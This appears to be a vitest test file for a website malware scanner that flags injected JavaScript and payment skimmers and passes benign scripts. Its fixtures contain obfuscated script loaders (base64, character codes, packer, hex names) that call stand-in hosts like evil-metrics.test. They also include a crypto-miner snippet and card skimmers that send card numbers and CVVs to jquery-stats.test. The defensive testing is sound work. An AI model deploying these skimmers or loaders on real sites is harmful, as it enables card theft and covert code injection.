import { afterEach, expect, test } from 'vitest'
import { hackFaults } from '#catalogue/hack.ts'
import { healthyLab, type Lab } from '#test/lab.ts'
import { page, safely } from '#test/pages.ts'

const codes = hackFaults.map(({ code }) => code)
let lab: Lab
afterEach(() => lab.close())

const hacks = async (home: string, path = '/', more = {}) => {
  lab = await healthyLab({ [path]: safely(home) }, more)
  return (await lab.examine(`https://shop.test${path}`, { codes })).findings
}
const codesOf = async (...from: Parameters<typeof hacks>) => (await hacks(...from)).map(({ code }) => code)

const charCodes = (text: string) => [...text].map((letter) => letter.charCodeAt(0)).join(',')
const hex = (text: string) =>
  [...text].map((letter) => `\\x${letter.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')
/** As Dean Edwards's packer writes it, words by number to base 36. */
function packed(code: string): string {
  const words = [...new Set(code.match(/\b\w+\b/g) ?? [])]
  const body = code.replace(/\b\w+\b/g, (word) => words.indexOf(word).toString(36)).replaceAll("'", "\\'")
  return `eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('${body}',36,${words.length},'${words.join('|')}'.split('|'),0,{}))`
}
const LOADER =
  "var s=document.createElement('script');s.src='https://cdn-stat.evil-metrics.test/x.js';document.head.appendChild(s);"
const WRITER = '<script src="https://evil-metrics.test/a.js"></script>'

test.each([
  ['character codes that are run', `eval(String.fromCharCode(${charCodes(LOADER)}))`],
  ['character codes that are written', `document.write(String.fromCharCode(${charCodes(WRITER)}))`],
  [
    'an array of codes',
    `var a=[${charCodes(LOADER)}],b='';for(var i=0;i<a.length;i++)b+=String.fromCharCode(a[i]);eval(b)`,
  ],
  ['base64', `eval(atob('${btoa(LOADER)}'))`],
  [
    'base64 for the address alone',
    `var e=document.createElement('script');e.src=atob("${btoa('https://evil-metrics.test/x.js')}");document.body.appendChild(e)`,
  ],
  ['base64 twice', `eval(atob('${btoa(`eval(atob("${btoa(LOADER)}"))`)}'))`],
  ['percent signs', `document.write(unescape('${encodeURIComponent(WRITER).replaceAll("'", '%27')}'))`],
  ['a packer', packed(LOADER)],
  [
    'numbered names',
    `var _0x3a1f=['${hex('https://evil-metrics.test/x.js')}','${hex('createElement')}','${hex('script')}','${hex('src')}','${hex('appendChild')}'];(function(_0x1b2c,_0x44de){var _0x9a=document[_0x1b2c[1]](_0x1b2c[2]);_0x9a[_0x1b2c[3]]=_0x1b2c[0];document.head[_0x1b2c[4]](_0x9a)}(_0x3a1f,0x1));`,
  ],
  [
    'a text cut apart',
    `eval(atob('${btoa("document.location.href='ht'+'tps://evil-met'+'rics.test/go'")}'))`,
  ],
  [
    'a text written backwards',
    `document.write('${[...WRITER].reverse().join('')}'.split('').reverse().join(''))`,
  ],
])('a script behind %s that brings in a stranger is named', async (_, code) => {
  const home = page({ head: `<script>${code}</script>` })
  const [finding, ...rest] = await hacks(home)
  expect(finding).toMatchObject({ code: 'hack.injected_js', verdict: 'confirmed' })
  expect(rest).toEqual([])
  for (const { excerpt } of finding?.evidence ?? []) expect(home).toContain(excerpt)
})

const FETCHER =
  "(async()=>{const r=await(await fetch('https://node7.evil-metrics.test/',{method:'POST',body:'eth_call'})).json();eval(atob(r.result.slice(130)))})();"

test.each([
  [
    'numbered names',
    `var _0x4af1=['${btoa('https://evil-metrics.test/x.js')}','createElement','script','src','appendChild','head'];(function(_0x1,_0x22){var s=document[_0x4af1[1]](_0x4af1[2]);s[_0x4af1[3]]=atob(_0x4af1[0]);document[_0x4af1[5]][_0x4af1[4]](s)})();`,
  ],
  ['a fetch whose answer is run', FETCHER],
])('a script in an address of its own that brings in a stranger is named: %s', async (_, code) => {
  const home = page({ foot: `<script src="data:text/javascript;base64,${btoa(code)}"></script>` })
  const [finding] = await hacks(home)
  expect(finding).toMatchObject({ code: 'hack.injected_js', verdict: 'confirmed' })
  expect(home).toContain(finding?.evidence[0]?.excerpt)
})

test.each([
  [
    'what a cache plug-in puts off',
    'var cart={"ajax_url":"/wp-admin/admin-ajax.php"};jQuery&&jQuery(document).ready(function(){});',
  ],
  [
    'a known service',
    "var s=document.createElement('script');s.src=atob('aHR0cHM6Ly93d3cuZ29vZ2xldGFnbWFuYWdlci5jb20vZ3RtLmpz');document.head.appendChild(s)",
  ],
])('a script in an address of its own is no fault by itself: %s', async (_, code) => {
  const packed = `<script src="data:text/javascript;base64,${btoa(code)}" defer></script>`
  expect(await codesOf(page({ foot: packed }))).toEqual([])
})

test.each([
  [
    'the mark of a known campaign',
    page({ foot: '<script>;if(ndsw===undefined){var ndsw=true,a=1}</script>' }),
  ],
  [
    'a miner',
    page({
      foot: '<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>new CoinHive.Anonymous("k").start()</script>',
    }),
  ],
  [
    'a disguised script after the end',
    `${page()}\n<script>var _0xaa11=['\\x61','\\x62'];eval(_0xaa11[0]+_0xaa11[1]+_0xbb22+_0xcc33+_0xdd44)</script>`,
  ],
  [
    'a disguised script before the beginning',
    `<script>eval(unescape('%61%6c%65%72%74%28%31%29%3b'))</script>${page()}`,
  ],
  [
    'an invisible frame after the end',
    `${page()}<iframe src="http://evil-metrics.test/in.php" width="1" height="1" style="visibility:hidden"></iframe>`,
  ],
  [
    'a disguised loader beside a stranger’s file',
    page({
      head: `<script src="//evil-metrics.top/j.js"></script><script>var _0x12ab=['script','src','createElement'],_0x33=_0x12ab,_0x44=_0x12ab,_0x55=_0x33;document[_0x33[2]](_0x44[0])</script>`,
    }),
  ],
])('%s is named', async (_, home) => {
  expect(await codesOf(home)).toEqual(['hack.injected_js'])
})

test.each([
  [
    'packed but own',
    page({
      foot: `<script>${packed("var slider=document.getElementById('slider');slider.className='ready';window.slider={next:function(){}};")}</script>`,
    }),
  ],
  [
    'a packed loader of the site’s own file',
    page({
      foot: `<script>${packed("var s=document.createElement('script');s.src='https://static.shop.test/x.js';document.head.appendChild(s);")}</script>`,
    }),
  ],
  [
    'the old snippet of Google Analytics',
    page({
      foot: `<script>var gaJsHost=(("https:"==document.location.protocol)?"https://ssl.":"http://www.");document.write(unescape("%3Cscript src='"+gaJsHost+"google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));</script>`,
    }),
  ],
  [
    'a counter written in character codes',
    page({
      foot: `<script>document.write(String.fromCharCode(${charCodes('<script src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>')}))</script>`,
    }),
  ],
  [
    'an e-mail address kept from robots',
    page({
      foot: `<script>document.write(String.fromCharCode(${charCodes('<a href="mailto:hello@shop.test">hello@shop.test</a>')}))</script>`,
    }),
  ],
  [
    'a licence check with numbered names',
    page({
      foot: `<script>var _0x5a=['fetch','https://licence.theme-maker.test/check','hostname','location','then'];(function(_0x1,_0x22,_0x33a,_0x44b,_0x55c){window[_0x5a[0]](_0x5a[1]+'?d='+window[_0x5a[3]][_0x5a[2]])})(_0x5a);</script>`,
    }),
  ],
  [
    'a partner’s script, in plain sight',
    page({ head: '<script src="https://widgets.booking-partner.test/w.js" async></script>' }),
  ],
  [
    'a counter after the end',
    `${page()}<script src="https://www.google-analytics.com/analytics.js"></script>`,
  ],
  [
    'the frame of Google Tag Manager',
    page({
      main: '<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-1" height="0" width="0" style="display:none;visibility:hidden"></iframe></noscript><p>Bread for the town, baked each morning.</p>',
    }),
  ],
  [
    'an article with the code in it',
    page({
      title: 'Hacked website cleanup',
      main: `<p>This is what we found:</p><pre>&lt;script&gt;eval(String.fromCharCode(${charCodes(LOADER)}))&lt;/script&gt; if(ndsw===undefined){</pre><p>We removed it, and changed all passwords.</p>`,
    }),
  ],
  [
    'a bundle that reads base64',
    page({
      foot: `<script>var config=JSON.parse(atob("${btoa('{"api":"https://api.shop-backend.test/v1","debug":false}')}"));document.createElement("div")</script>`,
    }),
  ],
])('%s is no finding', async (_, home) => {
  expect(await codesOf(home)).toEqual([])
})

const CHECKOUT =
  '<form action="/pay" method="post"><input name="cardnumber" autocomplete="cc-number"><input name="cvv" autocomplete="cc-csc"><button>Pay</button></form>'

test.each([
  [
    'an image',
    `document.querySelector('[name=cardnumber]').addEventListener('change',function(){new Image().src='https://jquery-stats.test/p.gif?d='+btoa(this.value)})`,
  ],
  [
    'fetch',
    `document.forms[0].onsubmit=()=>{fetch('https://jquery-stats.test/c',{method:'POST',body:JSON.stringify({n:document.getElementsByName('cvv')[0].value})})}`,
  ],
  [
    'a beacon, in disguise',
    `eval(atob('${btoa("document.forms[0].addEventListener('submit',function(e){navigator.sendBeacon('https://jquery-stats.test/c',new FormData(e.target))})")}'))`,
  ],
  [
    'a socket',
    `var w=new WebSocket('wss://ws.jquery-stats.test/');document.querySelectorAll('input').forEach(i=>i.onblur=()=>w.send(i.name+i.value))`,
  ],
])('a script that sends the card to a stranger by %s is called likely', async (_, code) => {
  const home = page({ title: 'Checkout', main: `${CHECKOUT}<script>${code}</script>` })
  const findings = await hacks(home, '/checkout')
  expect(findings[0]).toMatchObject({ code: 'hack.skimmer', verdict: 'likely', severity: 'critical' })
})

test('a stranger’s file that reads the card is read and named', async () => {
  const home = page({
    title: 'Checkout',
    main: CHECKOUT,
    foot: '<script src="https://jquery-stats.test/min.js"></script>',
  })
  const file = {
    headers: { 'content-type': 'text/javascript' },
    body: `document.forms[0].onsubmit=function(){var d=document.getElementsByName('cardnumber')[0].value;new Image().src='https://jquery-stats.test/i?'+d}`,
  }
  const hosts = { 'jquery-stats.test': { https: { '/min.js': file } } }
  expect(await codesOf(home, '/checkout', { hosts })).toEqual(['hack.skimmer'])
})

test.each([
  [
    'a payment service',
    `Stripe('pk').createToken(document.querySelector('[name=cardnumber]').value);fetch('https://api.stripe.com/v1/tokens',{method:'POST'})`,
  ],
  [
    'the shop itself',
    `fetch('/pay',{method:'POST',body:JSON.stringify({cardnumber:document.forms[0].cardnumber.value})})`,
  ],
  [
    'nobody, beside a counter',
    `ga('send','event','checkout','cardnumber focused');new Image().src='https://www.google-analytics.com/collect?v=1'`,
  ],
])('a checkout that sends the card to %s is fine', async (_, code) => {
  const home = page({ title: 'Checkout', main: `${CHECKOUT}<script>${code}</script>` })
  expect(await codesOf(home, '/checkout')).toEqual([])
})

const fromFile = async (body: string) => {
  lab = await healthyLab({
    '/': safely(page({ foot: '<script src="/theme/view.js"></script>' })),
    '/theme/view.js': { headers: { 'content-type': 'text/javascript' }, body },
  })
  return (await lab.examine('https://shop.test', { codes })).findings.map(({ code }) => code)
}
const MENU = 'document.documentElement.classList.add("js");'

test.each([
  ['the mark of a campaign', `${MENU};if(ndsw===undefined){var ndsw=true;}`],
  ['a loader in base64', `${MENU};eval(atob('${btoa(LOADER)}'))`],
  ['a loader in character codes', `${MENU};eval(String.fromCharCode(${charCodes(LOADER)}))`],
])('a script file of the site’s own with %s is named', async (_, body) => {
  expect(await fromFile(body)).toEqual(['hack.injected_js'])
})

test.each([
  ['an ordinary file', MENU],
  ['a packed program of the site’s own', packed(`var menu=document.querySelector('nav');${MENU}`)],
  ['a picture in base64', `${MENU}var i=atob('${btoa('GIF89a picture of nothing at all')}')`],
])('%s is fine', async (_, body) => {
  expect(await fromFile(body)).toEqual([])
})
